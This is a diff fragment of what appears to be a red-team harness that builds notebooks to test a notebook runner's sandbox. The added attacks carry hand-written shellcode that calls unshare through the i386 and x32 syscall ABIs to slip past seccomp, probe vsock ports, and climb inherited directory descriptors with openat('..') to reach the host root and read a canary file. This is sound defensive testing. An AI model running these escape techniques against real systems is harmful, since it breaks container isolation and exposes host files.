+        "unshare returned 0 through another ABI; the runner's vsock port is taken (EADDRINUSE) from inside the jail")
+def _(nb, cfg):
+    code = r'''
+import platform, socket as _rt_sock
+_rt_res("machine", platform.machine())
+_rt_abi_child = """
+import ctypes, mmap, sys
+if sys.argv[1] == "i386":   # mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret
+    code = bytes([0xb8, 0x36, 0x01, 0, 0, 0xbb, 0, 0, 0, 0x10, 0xcd, 0x80, 0xc3])
+else:                       # mov eax, 0x40000000 | 272 (x32 unshare); mov edi, CLONE_NEWUSER; syscall; ret
+    code = bytes([0xb8, 0x10, 0x01, 0, 0x40, 0xbf, 0, 0, 0, 0x10, 0x0f, 0x05, 0xc3])
+m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+m.write(code)
+f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
+print("returned", f(), flush=True)
+"""
+if platform.machine() == "x86_64":
+    for _abi in ("i386", "x32"):
+        try:
+            _p = subprocess.run([sys.executable, "-c", _rt_abi_child, _abi], capture_output=True, text=True, timeout=10)
+            _out = (_p.stdout.strip() or _p.stderr.strip()[-120:])
+            _rt_res("unshare_" + _abi, ("ok (returned 0)" if _out == "returned 0" else _out) + " rc=%s" % _p.returncode)
+        except Exception as _e:
+            _rt_res("unshare_" + _abi, repr(_e))
+_held = _RTCFG.get("vsock_port") or 0
+for _label, _port in (("held", _held), ("free", _held + 1 if _held else 0)):
+    if not _port:
+        continue
+    try:
+        _s = _rt_sock.socket(_rt_sock.AF_VSOCK, _rt_sock.SOCK_STREAM)
+    except (OSError, AttributeError) as _e:
+        _rt_res("vsock_" + _label, "socket: %s" % getattr(_e, "strerror", _e))
+        continue
+    try:
+        _s.bind((_rt_sock.VMADDR_CID_ANY, _port))
+        _rt_res("vsock_" + _label, "bound port %d" % _port)
+    except OSError as _e:
+        _rt_res("vsock_" + _label, "port %d: %s" % (_port, _e.strerror))
+    finally:
+        _s.close()
+'''
+    return build_notebook(nb, **with_prelude("s01_seccomp_abi_and_vsock", cfg, suffix={FIRST05: code}))
+
+
+@attack("z01_inherited_fds", "jail",
+        "a kernel forked from the worker's zygote starts with the zygote's open files: lists its file descriptors, and "
+        "through any that is a folder outside its root climbs with openat('..') to the host's root and reads the runner's "
+        "canary file (its path is in the notebook, its content is not); reports its identity, capabilities, seccomp "
+        "mode and the variables it inherited",
+        "the canary file's content (a token only the runner knows) in its page")
+def _(nb, cfg):
+    code = r'''
+import stat as _rt_stat
+_fds = []
+for _fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
+    try:
+        _fds.append("%d=%s" % (_fd, os.readlink("/proc/self/fd/%d" % _fd)))
+    except OSError as _e:
+        _fds.append("%d=?" % _fd)
+_rt_res("fds", " ".join(_fds))
+for _fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
+    try:
+        if not _rt_stat.S_ISDIR(os.fstat(_fd).st_mode):
+            continue
+        _d = os.open(".", os.O_RDONLY | os.O_DIRECTORY, dir_fd=_fd)
+        for _ in range(40):
+            _up = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=_d)
+            os.close(_d)
+            _d = _up
+        _rt_res("fd%d_top" % _fd, " ".join(sorted(os.listdir(_d))[:30]))
+        try:
+            _c = os.open(_RTCFG["canary_existing"].lstrip("/"), os.O_RDONLY, dir_fd=_d)
+            _rt_res("fd%d_canary" % _fd, os.read(_c, 200).decode(errors="replace").strip())
+            os.close(_c)
+        except OSError as _e:
+            _rt_res("fd%d_canary" % _fd, _e.strerror)
+        os.close(_d)
+    except OSError:
+        continue
+for _line in open("/proc/self/status"):
+    if _line.split(":")[0] in ("Uid", "Gid", "CapEff", "CapBnd", "NoNewPrivs", "Seccomp"):
+        _rt_res(_line.split(":")[0], _line.split(":", 1)[1].strip())
+_rt_res("environ", " ".join(sorted(os.environ)))
+_rt_res("root_listing", " ".join(sorted(os.listdir("/"))))
+'''
+    return build_notebook(nb, **with_prelude("z01_inherited_fds", cfg, suffix={FIRST05: code}))
+
+
 # ---------------------------------------------------------------- building
 DEFAULT_CONFIG = {"scratch": "/tmp/rtwb-scratch", "markers": "/tmp/rtwb-scratch/markers",
                   "canary_existing": "/tmp/rtwb-scratch/canaries/e01-target.txt",
                   "canary_existing_e04": "/tmp/rtwb-scratch/canaries/e04-target.txt",
-                  "home": "/tmp/rtwb-scratch/home", "port": 9, "ipc_token_reversed": "NEKOT-CPI-BWTR", "timeout": 8}
+                  "home": "/tmp/rtwb-scratch/home", "port": 9, "ipc_token_reversed": "NEKOT-CPI-BWTR", "timeout": 8,
+                  "ran_token": "rtwb-default", "vsock_port": 0}
 
 
 def build(notebooks_dir, out_dir, cfg=None):
@@ -1208,7 +1470,7 @@ def build(notebooks_dir, out_dir, cfg=None):
             with open(path, "w", encoding="utf-8") as f:
                 json.dump(built, f, indent=1, ensure_ascii=False)
             files[a["name"]] = path
-        manifest.append({k: a[k] for k in ("name", "class", "notebook", "desc", "evidence")} | {"files": files})
+        manifest.append({k: a[k] for k in ("name", "class", "notebook", "desc", "evidence", "runs")} | {"files": files})
     with open(os.path.join(out_dir, "manifest.json"), "w", encoding="utf-8") as f:
         json.dump(manifest, f, indent=1, ensure_ascii=False)
     return manifest
